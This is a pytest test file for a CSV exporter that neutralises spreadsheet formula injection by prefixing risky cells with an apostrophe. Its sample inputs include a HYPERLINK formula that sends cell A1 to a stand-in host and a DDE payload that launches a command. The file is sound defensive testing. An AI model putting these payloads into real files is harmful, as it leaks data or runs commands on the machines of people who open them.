"""No text becomes a formula in a spreadsheet, and no number is touched."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from schemas.errors import UsageError
from tasks.texts.table_files import read_table, restore_text, write_safe_csv

FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=cmd|' /C calc'!A0",
    "\ufeff=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "- a list",
    "--1",
    "'=1",
    "''-1.5",
]
PLAIN = [
    "-1.5",
    "+3",
    "-2e-5",
    "-.5",
    "12%",
    "-3%",
    "1-2",
    "a=b",
    "'a'",
    "",
    "x@y.example",
    "答案：=1",
    "–",
    "−1+1",
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe_in_front(text: str) -> None:
    frame = pl.DataFrame({"n": [1], text: [text]})
    assert read_back(write_safe_csv(frame)) == [["n", "'" + text], ["1", "'" + text]]


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_and_numbers_as_text_are_written_exactly(text: str) -> None:
    assert read_back(write_safe_csv(pl.DataFrame({"n": [1], "text": [text]}))) == [["n", "text"], ["1", text]]


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN, "'\x1f=1", "\x1c-a", "'\u200b=1"])
def test_who_reads_it_has_the_texts_and_names_as_they_were(text: str, tmp_path: Path) -> None:
    frame = pl.DataFrame({"n": ["a"], text: [text]})
    (path := tmp_path / "texts.csv").write_text(write_safe_csv(frame), "utf-8", newline="")
    if text:
        assert read_table(path, as_text=True).rows(named=True) == [{"n": "a", text: text}]
        assert read_table(path, as_text={text}).rows(named=True) == [{"n": "a", text: text}]
    assert [[restore_text(cell) for cell in row] for row in read_back(path.read_bytes().decode())] == [
        ["n", text],
        ["a", text],
    ]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a,b\n1,2\n3,4,5\n", "line 3: 3 cells below 2 names of columns"),
        ('a,b\n"1,2\n', "line 2: unexpected end of data. Close the quotes"),
        ("a;b\n1;2;3\n", "a cell that holds ';' in quotes"),
    ],
)
def test_a_row_that_does_not_fit_is_named(text: str, said: str, tmp_path: Path) -> None:
    (path := tmp_path / "rows.csv").write_text(text)
    with pytest.raises(UsageError, match=said):
        read_table(path)


def test_numbers_nulls_and_categories_keep_their_form() -> None:
    frame = pl.DataFrame(
        {"x": [-1.5, None], "n": [-2, 3], "kind": pl.Series(["=a", None], dtype=pl.Categorical)}
    )
    assert read_back(write_safe_csv(frame)) == [["x", "n", "kind"], ["-1.5", "-2", "'=a"], ["", "3", ""]]
    assert write_safe_csv(frame, has_header=False).splitlines()[0] == "-1.5,-2,'=a"
